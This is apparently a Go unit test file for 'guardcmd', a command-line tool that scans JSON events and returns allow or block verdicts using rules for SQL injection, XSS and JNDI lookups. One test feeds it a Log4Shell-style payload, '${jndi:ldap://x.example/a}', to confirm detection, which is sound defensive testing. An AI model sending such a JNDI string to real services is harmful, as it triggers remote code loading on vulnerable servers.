package guardcmd

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
)

func TestRun(t *testing.T) {
	tests := []struct {
		name      string
		args      []string
		stdin     string
		code      int
		action    string
		rules     []string // rules expected among the findings
		errSubstr string
	}{
		{name: "benign", args: []string{"check", "testdata/benign-sqs.json"}, code: ExitAllow, action: "allow"},
		{name: "attack", args: []string{"check", "testdata/attack-apigw.json"}, code: ExitBlock, action: "block",
			rules: []string{"sqli.libinjection", "xss.script_tag"}},
		{name: "flags after file", args: []string{"check", "testdata/attack-apigw.json", "--trigger", "apigw-v1"}, code: ExitBlock, action: "block"},
		{name: "monitor policy", args: []string{"check", "--policy", "testdata/monitor.yaml", "testdata/attack-apigw.json"}, code: ExitAllow, action: "allow",
			rules: []string{"sqli.libinjection"}},
		{name: "stdin", args: []string{"check", "-"}, stdin: `{"comment":"${jndi:ldap://x.example/a}"}`, code: ExitBlock, action: "block", rules: []string{"jndi.lookup"}},
		{name: "malformed event", args: []string{"check", "-"}, stdin: `{"a":`, code: ExitBlock, action: "block", rules: []string{"malformed.json"}},
		{name: "missing file", args: []string{"check", "testdata/nope.json"}, code: ExitError, errSubstr: "nope.json"},
		{name: "bad trigger", args: []string{"check", "--trigger", "carrier-pigeon", "-"}, code: ExitError, errSubstr: "unknown trigger"},
		{name: "bad policy", args: []string{"check", "--policy", "testdata/bad.yaml", "-"}, code: ExitError, errSubstr: "bad.yaml"},
		{name: "no file", args: []string{"check"}, code: ExitError, errSubstr: "exactly one"},
		{name: "unknown command", args: []string{"frobnicate"}, code: ExitError, errSubstr: "unknown command"},
		{name: "help", args: []string{"check", "-h"}, code: ExitAllow, errSubstr: "--policy"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var out, errb bytes.Buffer
			code := Run(tt.args, strings.NewReader(tt.stdin), &out, &errb)
			if code != tt.code {
				t.Fatalf("exit %d, want %d; stderr: %s", code, tt.code, errb.String())
			}
			if tt.errSubstr != "" && !strings.Contains(errb.String(), tt.errSubstr) {
				t.Errorf("stderr %q does not mention %q", errb.String(), tt.errSubstr)
			}
			if tt.action == "" {
				return
			}
			var v struct {
				Action   string `json:"action"`
				Trigger  string `json:"trigger"`
				Findings []struct {
					Rule, Path string
				} `json:"findings"`
			}
			if err := json.Unmarshal(out.Bytes(), &v); err != nil {
				t.Fatalf("verdict is not JSON: %v\n%s", err, out.String())
			}
			if v.Action != tt.action {
				t.Errorf("action %q, want %q", v.Action, tt.action)
			}
			for _, r := range tt.rules {
				found := false
				for _, f := range v.Findings {
					found = found || f.Rule == r
				}
				if !found {
					t.Errorf("rule %s not among findings %+v", r, v.Findings)
				}
			}
		})
	}
}
